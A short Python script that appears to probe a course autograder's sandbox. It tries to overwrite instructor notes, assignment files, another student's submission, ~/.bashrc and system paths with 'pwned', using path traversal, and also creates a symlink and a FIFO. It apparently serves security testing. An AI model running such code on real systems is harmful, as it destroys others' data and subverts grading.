import os
for path in [COURSE + "/instructor_notes.txt", COURSE + "/pwned.txt", COURSE + "/assignments/transformers/transformers.ipynb",
             COURSE + "/submitted/HONEST/transformers/transformers.ipynb", "../../../pwned.txt",
             "../../../release/transformers/transformers.ipynb", HOME + "/.bashrc", "/usr/lib/pwned"]:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        print("wrote", path)
    except OSError as error:
        print(path, error)
try:
    os.symlink(COURSE + "/assignments/transformers/transformers.ipynb", "transformers.ipynb")
    os.mkfifo("fifo")
except OSError as error:
    print(error)
